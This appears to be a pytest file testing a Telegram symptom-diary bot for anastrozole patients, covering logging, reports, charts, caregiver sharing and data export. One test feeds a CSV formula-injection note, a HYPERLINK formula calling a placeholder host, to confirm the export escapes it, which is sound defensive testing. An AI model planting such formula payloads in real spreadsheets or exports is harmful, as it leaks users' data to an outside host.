"""The symptom diary through the real application: /log and its buttons, the awaited note,
warning signs, /symptoms, the weekly check-in after Taken, /chart, /report, the caregiver's
weekly line and the export. The pure rules (trends, months, buttons) are tested alone."""

from __future__ import annotations

import csv
import io
import json
import re
from datetime import UTC, date, datetime, timedelta

import pytest
from hypothesis import given
from hypothesis import strategies as st
from pypdf import PdfReader

from bot import scheduler
from bot.app import App
from bot.pure.diary import SYMPTOMS, checkin_due, this_week, trends
from bot.pure.timerules import epoch
from bot.reports.chart import span
from bot.reports.pdf import by_month, percent
from bot.services import Services
from bot.trial.clock import FakeClock
from bot.trial.recording_request import RecordingRequest
from db import diary, doses, people
from db.diary import Entry
from handlers.diary.buttons import (
    Another,
    Chart,
    CheckIn,
    Done,
    Pick,
    Press,
    Rate,
    SkipNote,
    unpack,
)
from tests.support import Person, en

ANNA, CAROL = 1001, 2002
TODAY = date(2026, 3, 2)  # the fake clock's day (09:00 UTC)
PNG = b"\x89PNG\r\n\x1a\n"


def entry(day: date, symptom: str, severity: int, id_: int = 0, note: str = "") -> Entry:
    return Entry(id_, day, symptom, severity, note)


def files(person: Person, since: int, method: str) -> list[tuple[str, bytes]]:
    """(filename, bytes) of each file sent to her with `method` since a call index."""
    key = "photo" if method == "sendPhoto" else "document"
    return [
        (params["_files"][key][0], params["_files"][key][1])
        for m, params in person.calls_since(since)
        if m == method
    ]


async def log(anna: Person, symptom: str, severity: int) -> list[str]:
    await anna.press(f"diary:pick:{symptom}")
    return await anna.press(f"diary:rate:{symptom}:{severity}")


# --- pure rules ---------------------------------------------------------------------------
PRESSES: list[Press] = [
    *(Pick(s) for s in SYMPTOMS),
    *(Rate(s, v) for s in SYMPTOMS for v in range(4)),
    SkipNote(12),
    Another(),
    Done("nothing"),
    Done("done"),
    CheckIn("on"),
    CheckIn("off"),
    Chart(30),
    Chart(90),
]


@pytest.mark.parametrize("press", PRESSES)
def test_every_button_unpacks_to_what_was_packed_within_telegrams_64_bytes(press: Press) -> None:
    data = press.pack()
    assert len(data.encode()) <= 64
    assert unpack(data) == press


@given(st.text(max_size=70))
def test_made_up_callback_data_is_refused_or_means_exactly_one_press(data: str) -> None:
    press = unpack(data)
    assert press is None or press.pack() == data


@pytest.mark.parametrize(
    "data",
    ["diary:pick:cancer", "diary:rate:joints:4", "diary:rate:joints:-1", "diary:skip:1²",
     "diary:skip:" + "9" * 19, "diary:chart:365", "diary:checkin:maybe", "diary", "rem:take"],
)  # fmt: skip
def test_forged_buttons_mean_nothing(data: str) -> None:
    assert unpack(data) is None


def test_trends_compare_the_later_half_with_the_earlier_and_put_the_latest_first() -> None:
    early, late = TODAY - timedelta(days=25), TODAY - timedelta(days=3)
    found = trends(
        [
            entry(early, "joints", 1, 1),
            entry(late, "joints", 3, 2),
            entry(early, "flushes", 3, 3),
            entry(late, "flushes", 1, 4),
            entry(early, "sleep", 2, 5),
            entry(late, "sleep", 2, 6),
            entry(TODAY, "mood", 1, 7),
            entry(TODAY - timedelta(days=30), "nausea", 3, 8),  # outside the 30 days
        ],
        TODAY,
    )
    assert [(t.symptom, t.direction, t.count, t.worst) for t in found] == [
        ("mood", "new", 1, 1),
        ("sleep", "same", 2, 2),
        ("flushes", "better", 2, 3),
        ("joints", "worse", 2, 3),
    ]


def test_check_in_only_when_turned_on_and_once_a_week() -> None:
    assert not checkin_due(False, None, TODAY)
    assert checkin_due(True, None, TODAY)
    assert not checkin_due(True, TODAY - timedelta(days=6), TODAY)
    assert checkin_due(True, TODAY - timedelta(days=7), TODAY)


def test_this_week_keeps_each_symptoms_worst_and_leaves_out_none() -> None:
    week = [
        entry(TODAY, "joints", 1),
        entry(TODAY - timedelta(days=2), "joints", 2),
        entry(TODAY, "flushes", 0),
        entry(TODAY - timedelta(days=7), "mood", 3),  # eight days ago
    ]
    assert this_week(week, TODAY) == [("joints", 2)]


def test_adherence_by_month_counts_a_past_pending_day_as_missed() -> None:
    statuses = {
        date(2026, 1, 31): "taken",
        date(2026, 2, 1): "taken",
        date(2026, 2, 2): "skipped",
        date(2026, 2, 3): "pending",  # a past day never answered: missed
        date(2026, 3, 2): "pending",  # today: nothing yet
        date(2025, 3, 1): "taken",  # thirteen months ago: left out
    }
    months = by_month(statuses, TODAY)
    shown = [(m.first, m.taken, m.skipped, m.missed) for m in months]
    assert [(*row, percent(*row[1:])) for row in shown] == [
        (date(2026, 1, 1), 1, 0, 0, 100),
        (date(2026, 2, 1), 1, 1, 1, 33),
    ]


# --- logging a symptom --------------------------------------------------------------------
async def test_log_walks_from_symptom_to_severity_to_note_and_offers_another(
    anna: Person, services: Services
) -> None:
    [question] = await anna.send("/log")
    assert en("diary_ask_symptom") in question
    assert anna.buttons()["Joint pain or stiffness"] == "diary:pick:joints"
    assert len(anna.buttons()) == len(SYMPTOMS)
    asked = await anna.press("diary:pick:joints")
    assert "<b>Joint pain or stiffness</b>: how bad has it been?" in asked
    assert list(anna.buttons()) == ["None", "Mild", "Moderate", "Severe"]
    saved = await anna.press(anna.buttons()["Moderate"])
    assert "Saved: <b>Joint pain or stiffness</b>, moderate." in saved[-1]
    assert set(anna.buttons()) == {"Skip the note", "➕ Log another", "Done"}
    [answer] = await anna.send("Worse in the morning, better after a walk")
    assert "with your note" in answer and "/symptoms" in answer
    [logged] = diary.between(services.db, ANNA, TODAY, TODAY)
    assert (logged.symptom, logged.severity, logged.note) == (
        "joints",
        2,
        "Worse in the morning, better after a walk",
    )
    # The note was the awaited reply: the next text is a question again.
    assert people.get(services.db, ANNA).awaiting is None  # type: ignore[union-attr]


async def test_several_symptoms_in_one_go_skipping_the_notes(
    anna: Person, services: Services
) -> None:
    await anna.send("/log")
    await log(anna, "flushes", 3)
    again = await anna.press(anna.buttons()["➕ Log another"])
    assert en("diary_ask_symptom") in again[-1]
    await log(anna, "sleep", 1)
    skipped = await anna.press(anna.buttons()["Skip the note"])
    assert "Saved: <b>Trouble sleeping</b>, mild." in skipped[-1]
    done = await anna.press(anna.buttons()["Done"])
    assert "Thank you" in done[-1]
    found = diary.between(services.db, ANNA, TODAY, TODAY)
    assert [(e.symptom, e.severity, e.note) for e in found] == [
        ("flushes", 3, ""),
        ("sleep", 1, ""),
    ]
    assert people.get(services.db, ANNA).awaiting is None  # type: ignore[union-attr]


async def test_a_note_naming_a_warning_sign_gets_the_urgent_guidance_first(
    anna: Person, services: Services
) -> None:
    await anna.send("/log")
    await log(anna, "other", 3)
    answers = await anna.send("my lips are swollen since this morning")
    assert "Call emergency services now" in answers[0] and "/urgent" in answers[0]
    assert "with your note" in answers[1]
    [logged] = diary.between(services.db, ANNA, TODAY, TODAY)
    assert logged.note == "my lips are swollen since this morning"


async def test_a_plain_note_gets_no_alarm(anna: Person) -> None:
    await anna.send("/log")
    await log(anna, "tired", 1)
    [answer] = await anna.send("a bit tired after work")
    assert "/urgent" not in answer


async def test_a_note_is_cut_to_a_short_line_and_a_skip_of_someone_elses_entry_does_nothing(
    anna: Person, app: App, request_layer: RecordingRequest, services: Services
) -> None:
    await anna.send("/log")
    await log(anna, "headache", 2)
    await anna.send("x" * 1000)
    [logged] = diary.between(services.db, ANNA, TODAY, TODAY)
    assert len(logged.note) == diary.NOTE_LIMIT
    carol = Person(app, request_layer, chat_id=CAROL, first_name="Carol")
    answer = await carol.press(f"diary:skip:{logged.id}")
    assert "no longer there" in answer[-1]


async def test_forged_diary_button_gets_the_stale_answer(anna: Person) -> None:
    answer = await anna.press("diary:rate:joints:9")
    assert answer == [en("button_expired")]


# --- /symptoms and the check-in -----------------------------------------------------------
async def test_symptoms_lists_each_with_its_trend_and_the_latest_entries(
    anna: Person, services: Services
) -> None:
    [empty] = await anna.send("/symptoms")
    assert en("diary_symptoms_none") in empty
    await anna.send("/start")
    for days_ago, severity in ((20, 1), (2, 3)):
        day = TODAY - timedelta(days=days_ago)
        entry_id = diary.add(services.db, ANNA, day, 0, "joints", severity)
    diary.set_note(services.db, ANNA, entry_id, "<knees> & hips")
    [text] = await anna.send("/symptoms")
    assert "• <b>Joint pain or stiffness</b>: 2×, latest severe (28 Feb), getting worse" in text
    assert "28 Feb: Joint pain or stiffness, severe: <i>&lt;knees&gt; &amp; hips</i>" in text
    assert "Weekly check-in: off" in text
    assert anna.buttons() == {"Turn weekly check-in on": "diary:checkin:on"}


async def test_weekly_check_in_after_taken_only_when_on_and_once_a_week(
    anna: Person, services: Services, clock: FakeClock
) -> None:
    async def take(day: date) -> list[str]:
        doses.open_dose(services.db, ANNA, day.isoformat(), epoch(clock.now()), 1)
        return await anna.press(f"rem:take:{day.isoformat()}")

    assert not any("How have you been" in t for t in await take(TODAY))  # off by default
    turned = await anna.press("diary:checkin:on")
    assert "Weekly check-in: on" in turned[-1]
    clock.set(datetime(2026, 3, 3, 9, tzinfo=UTC))
    answers = await take(date(2026, 3, 3))
    assert en("diary_checkin_question") in answers
    assert anna.buttons()["Nothing to note"] == "diary:nothing"
    assert "Nothing noted" in (await anna.press("diary:nothing"))[-1]
    for day in (4, 9):  # within the week: not again
        clock.set(datetime(2026, 3, day, 9, tzinfo=UTC))
        assert not any("How have you been" in t for t in await take(date(2026, 3, day)))
    clock.set(datetime(2026, 3, 10, 9, tzinfo=UTC))
    assert any("How have you been" in t for t in await take(date(2026, 3, 10)))
    await anna.press("diary:checkin:off")
    clock.set(datetime(2026, 3, 20, 9, tzinfo=UTC))
    assert not any("How have you been" in t for t in await take(date(2026, 3, 20)))


# --- pictures and the report --------------------------------------------------------------
def year_of_data(services: Services) -> None:
    for offset in range(365):
        day = TODAY - timedelta(days=offset)
        status = "missed" if offset % 17 == 5 else "skipped" if offset % 29 == 3 else "taken"
        due = epoch(datetime(day.year, day.month, day.day, 8, tzinfo=UTC))
        doses.open_dose(services.db, ANNA, day.isoformat(), due, 1)
        if status != "missed":
            doses.answer(services.db, ANNA, day.isoformat(), status, due)
        else:
            doses.record_missed(services.db, ANNA, day.isoformat(), due)
        if offset % 3 == 0:
            diary.add(services.db, ANNA, day, due, SYMPTOMS[offset % 4], offset % 4)


async def test_chart_is_a_png_photo_for_30_or_90_days(anna: Person, services: Services) -> None:
    await anna.send("/start")
    year_of_data(services)
    since = len(anna.request.calls)
    [caption] = await anna.send("/chart")
    assert "last 30 days" in caption
    [(name, picture)] = files(anna, since, "sendPhoto")
    assert name == f"anastrozole-chart-30-days-Anna-{TODAY}.png" and picture.startswith(PNG)
    width, height = int.from_bytes(picture[16:20], "big"), int.from_bytes(picture[20:24], "big")
    assert 800 <= width <= 1000 and height > width  # a phone screen: tall, not too wide
    since = len(anna.request.calls)
    await anna.press(anna.buttons()["Show 90 days"])
    [(_, wider)] = files(anna, since, "sendPhoto")
    assert wider.startswith(PNG) and wider != picture
    [usage] = await anna.send("/chart 365")
    assert "/chart 90" in usage


async def test_report_is_a_pdf_of_one_or_two_pages_with_her_record(
    anna: Person, services: Services
) -> None:
    await anna.send("/start")
    await anna.send("/started 2025-01-26")
    await anna.send("/bonescan 2025-01-10")
    year_of_data(services)
    note = diary.add(services.db, ANNA, TODAY, 0, "other", 2)
    diary.set_note(services.db, ANNA, note, "Наталья: ноги болят")
    since = len(anna.request.calls)
    [caption] = await anna.send("/report")
    assert "oncologist" in caption
    [(name, document)] = files(anna, since, "sendDocument")
    assert name == "anastrozole-report-Anna-2026-03-02.pdf" and document.startswith(b"%PDF-")
    reader = PdfReader(io.BytesIO(document))
    assert 1 <= len(reader.pages) <= 2
    text = " ".join(page.extract_text() for page in reader.pages)
    for expected in (
        "Anastrozole treatment report",
        "For Anna",
        "Started 26 January 2025, planned for 5 years",
        "Bone-density (DEXA) scan: last 10 January 2025; next due 10 January 2027",
        "Tablets by month",
        "April 2025",  # twelve months, ending with this one
        "February 2026",
        "Joint pain or stiffness",
        "Наталья: ноги болят",
        "not a medical record",
    ):
        assert expected in re.sub(r"\s+", " ", text), expected
    assert len(reader.pages[0].images) + len(reader.pages[-1].images) >= 1  # the chart


async def test_report_with_nothing_recorded_still_comes(anna: Person) -> None:
    since = len(anna.request.calls)
    await anna.send("/report")
    [(_, document)] = files(anna, since, "sendDocument")
    text = " ".join(p.extract_text() for p in PdfReader(io.BytesIO(document)).pages)
    assert en("diary_report_no_start") in text and "No symptoms logged" in text


# --- privacy ------------------------------------------------------------------------------
async def test_logs_never_hold_diary_text_or_symptoms(
    anna: Person, services: Services, caplog: pytest.LogCaptureFixture
) -> None:
    caplog.set_level("DEBUG")  # LOG_LEVEL=DEBUG: matplotlib, fpdf2 and fontTools talk too
    caplog.set_level("INFO", logger="telegram")  # as bot/errors.py configure_logging keeps it
    await anna.send("/log")
    await log(anna, "dryness", 3)
    await anna.send("Zebra-note 漢字 swollen")
    await anna.send("/symptoms")
    await anna.send("/chart")
    await anna.send("/report")
    logged = caplog.text.lower()
    assert logged  # the chart and report say they were sent
    for secret in ("zebra", "漢", "dryness", "vaginal", "severe", "swollen"):
        assert secret not in logged


async def test_export_holds_the_diary_and_csv_files_of_doses_and_diary(
    anna: Person, services: Services
) -> None:
    await anna.send("/start")
    await anna.send("/log")
    await log(anna, "bones", 2)
    await anna.send("hips, after stairs")
    doses.open_dose(services.db, ANNA, TODAY.isoformat(), 0, 1)
    since = len(anna.request.calls)
    await anna.send("/export")
    sent = dict(files(anna, since, "sendDocument"))
    assert set(sent) == {
        f"my-anastrozole-data-Anna-{TODAY}.json",
        f"my-anastrozole-doses-Anna-{TODAY}.csv",
        f"my-anastrozole-diary-Anna-{TODAY}.csv",
    }
    assert b'"note": "hips, after stairs"' in sent[f"my-anastrozole-data-Anna-{TODAY}.json"]
    table = sent[f"my-anastrozole-diary-Anna-{TODAY}.csv"].decode("utf-8-sig").splitlines()
    assert table[0] == "id,chat_id,local_date,logged_at,symptom,severity,note"
    assert table[1].endswith(',bones,2,"hips, after stairs"')


# --- caregivers ---------------------------------------------------------------------------
async def test_a_caregiver_sees_symptoms_in_the_weekly_summary_only_when_she_shares(
    anna: Person, app: App, request_layer: RecordingRequest, services: Services, clock: FakeClock
) -> None:
    carol = Person(app, request_layer, chat_id=CAROL, first_name="Carol")
    [invitation] = await anna.send("/invite")
    assert "symptom diary stays private" in invitation
    payload = re.search(r"start=(care-[A-Za-z0-9_-]+)", invitation)
    assert payload is not None
    [offer] = await carol.send(f"/start {payload[1]}")
    assert "symptom diary stays private unless she chooses to share it" in offer
    await carol.press(carol.buttons()["✅ Accept"])
    diary.add(services.db, ANNA, TODAY, 0, "joints", 2)
    diary.add(services.db, ANNA, TODAY + timedelta(days=2), 0, "flushes", 3)
    entry_id = diary.add(services.db, ANNA, TODAY + timedelta(days=3), 0, "joints", 3)
    diary.set_note(services.db, ANNA, entry_id, "private words")

    async def sunday(day: int) -> str:
        before = len(carol.request.calls)
        clock.set(datetime(2026, 3, day, 19, tzinfo=UTC))
        await scheduler.tick(app.bot, services)
        [summary] = [p["text"] for m, p in carol.calls_since(before) if m == "sendMessage"]
        return str(summary)

    assert "Symptoms" not in await sunday(8)  # off by default
    await anna.send("/caregivers")
    await anna.press(anna.buttons()["⬜ Symptoms in the weekly summary"])
    shared = await sunday(15)
    assert "Symptoms logged this week" not in shared  # nothing logged in that week
    diary.add(services.db, ANNA, date(2026, 3, 20), 0, "sleep", 1)
    diary.add(services.db, ANNA, date(2026, 3, 21), 0, "joints", 2)
    shared = await sunday(22)
    assert shared.endswith(
        "\nSymptoms logged this week: Joint pain or stiffness (moderate), Trouble sleeping (mild)"
    )
    assert "private words" not in shared


def test_starting_the_bot_imports_neither_matplotlib_nor_fpdf2() -> None:
    """They load on the first /chart or /report: start-up stays as fast as before."""
    import subprocess
    import sys

    code = "import sys, bot.app; print(sorted({'matplotlib', 'fpdf'} & set(sys.modules)))"
    found = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True)
    assert found.stdout.strip() == "[]", found.stderr


@pytest.mark.parametrize(
    "note", ['=HYPERLINK("http://x.example/?"&A1,"see")', "+1 pain", "-2 days", "@home"]
)
async def test_a_note_that_looks_like_a_formula_is_text_in_the_csv_and_exact_in_the_json(
    anna: Person, note: str
) -> None:
    await anna.send("/log")
    await log(anna, "bones", 2)
    await anna.send(note)
    since = len(anna.request.calls)
    await anna.send("/export")
    sent = dict(files(anna, since, "sendDocument"))
    assert json.loads(sent[f"my-anastrozole-data-Anna-{TODAY}.json"])["diary"][0]["note"] == note
    diary_csv = sent[f"my-anastrozole-diary-Anna-{TODAY}.csv"].decode("utf-8-sig")
    [row] = list(csv.DictReader(io.StringIO(diary_csv)))
    assert row["note"] == "'" + note
    assert row["severity"] == "2"


# --- a bounded diary ----------------------------------------------------------------------
async def test_a_second_press_the_same_day_updates_the_entry_and_keeps_its_note(
    anna: Person, services: Services
) -> None:
    await anna.send("/log")
    await log(anna, "joints", 1)
    await anna.send("stiff after the walk")
    await anna.send("/log")
    await log(anna, "joints", 3)
    await anna.press(anna.buttons()["Skip the note"])
    [entry] = diary.between(services.db, ANNA, TODAY, TODAY)
    assert (entry.symptom, entry.severity, entry.note) == ("joints", 3, "stiff after the walk")
    await log(anna, "joints", 2)
    await anna.send("better by evening")
    [entry] = diary.between(services.db, ANNA, TODAY, TODAY)
    assert (entry.severity, entry.note) == (2, "better by evening")


def test_a_day_holds_at_most_20_notes(services: Services) -> None:
    ids = [diary.add(services.db, ANNA, TODAY, 0, f"s{n}", 1) for n in range(21)]
    assert all(diary.set_note(services.db, ANNA, i, f"note {i}") for i in ids[:20])
    assert not diary.set_note(services.db, ANNA, ids[20], "one too many")
    assert diary.set_note(services.db, ANNA, ids[0], "a note replaced is still one")
    assert sum(1 for e in diary.between(services.db, ANNA, TODAY, TODAY) if e.note) == 20


async def test_report_and_chart_come_with_a_full_year(anna: Person, services: Services) -> None:
    """Every symptom every day for a year, each with a note as long as kept: the most the
    diary can hold (3,650 entries) still gives a chart and a report of at most two pages.
    Their time is measured by `make bench` (report_pdf_s_year), not here."""
    await anna.send("/start")
    year_of_data(services)
    with services.db.atomic():
        for offset in range(365):
            day = TODAY - timedelta(days=offset)
            for symptom in SYMPTOMS:
                entry = diary.add(services.db, ANNA, day, 0, symptom, offset % 4)
                diary.set_note(services.db, ANNA, entry, f"{symptom} {offset} " + "n" * 200)
    assert len(diary.between(services.db, ANNA, TODAY - timedelta(days=400), TODAY)) == 3650
    since = len(anna.request.calls)
    await anna.send("/chart 90")
    await anna.send("/report")
    [(_, picture)] = files(anna, since, "sendPhoto")
    [(_, document)] = files(anna, since, "sendDocument")
    assert picture.startswith(b"\x89PNG") and len(PdfReader(io.BytesIO(document)).pages) <= 2


async def test_a_russian_report_is_russian_through_and_through(
    app: App, request_layer: RecordingRequest, services: Services
) -> None:
    """Dates, months and the file's name in her language (Babel's month names), and no
    Markdown left in the text."""
    anna = Person(app, request_layer, language_code="ru")
    await anna.send("/started 2025-01-26")
    year_of_data(services)
    since = len(anna.request.calls)
    await anna.send("/report")
    [(name, document)] = files(anna, since, "sendDocument")
    assert name == "отчёт-анастрозол-Anna-2026-03-02.pdf"
    text = re.sub(
        r"\s+", " ", " ".join(p.extract_text() for p in PdfReader(io.BytesIO(document)).pages)
    )
    for expected in ("Составлен 2 марта 2026", "26 января 2025", "февраль 2026"):
        assert expected in text, expected
    assert "December" not in text and "March" not in text and "*" not in text


def test_a_chart_spans_the_days_she_has_records_for() -> None:
    entry = Entry(1, TODAY - timedelta(days=40), "joints", 1, "")
    assert span(TODAY, 90, {}, []) == 14  # nothing yet: two weeks, not an empty quarter
    assert span(TODAY, 90, {TODAY - timedelta(days=2): "taken"}, []) == 14
    assert span(TODAY, 90, {TODAY - timedelta(days=20): "taken"}, []) == 21
    assert span(TODAY, 90, {}, [entry]) == 41
    assert span(TODAY, 30, {}, [entry]) == 30
    assert span(TODAY, 90, {TODAY + timedelta(days=5): "taken"}, []) == 14  # no future


async def test_a_new_patients_chart_is_two_weeks_not_an_empty_month(
    anna: Person, services: Services
) -> None:
    await anna.send("/start")
    diary.add(services.db, ANNA, TODAY - timedelta(days=2), 0, "joints", 1)
    since = len(anna.request.calls)
    await anna.send("/chart")
    [call] = [p for m, p in anna.calls_since(since) if m == "sendPhoto"]
    assert "14 days" in str(call["caption"]) and "reply_markup" not in call


async def test_her_name_and_date_of_birth_on_the_report_only_when_she_adds_them(
    anna: Person, services: Services
) -> None:
    [answer] = await anna.send("/report name Anna Smith")
    assert "Anna Smith" in answer
    [answer] = await anna.send("/report born 14 March 1956")
    assert "14 March 1956" in answer
    assert (
        "sometime" in (await anna.send("/report born sometime"))[0]
        or "date of birth" in (await anna.send("/report born sometime"))[0]
    )
    [answer] = await anna.send("/report born 2030-01-01")  # not born yet: refused, kept
    assert "date of birth" in answer
    since = len(anna.request.calls)
    await anna.send("/report")
    [(_name, document)] = files(anna, since, "sendDocument")
    text = re.sub(
        r"\s+", " ", " ".join(p.extract_text() for p in PdfReader(io.BytesIO(document)).pages)
    )
    assert "For Anna Smith, born 14 March 1956." in text
    assert "report_name" in json.dumps(diary.export(services.db, ANNA))
    await anna.send("/report clear")
    since = len(anna.request.calls)
    await anna.send("/report")
    [(_, document)] = files(anna, since, "sendDocument")
    text = " ".join(p.extract_text() for p in PdfReader(io.BytesIO(document)).pages)
    assert "Smith" not in text and "1956" not in text


async def test_how_bad_in_her_words(anna: Person, services: Services) -> None:
    """The severity buttons are a shortcut: "mild" (or "очень сильно") typed answers too."""
    await anna.send("/log")
    await anna.press("diary:pick:joints")
    texts = await anna.send("mild, mostly in the morning")
    assert "Want to add a short note" in texts[-1]
    [entry] = diary.between(services.db, ANNA, TODAY, TODAY)
    assert (entry.symptom, entry.severity) == ("joints", 1)
    await anna.send("/log")
    await anna.press("diary:pick:flushes")
    texts = await anna.send("what helps with hot flushes?")  # a question instead: answered
    assert not any("Want to add a short note" in t for t in texts)
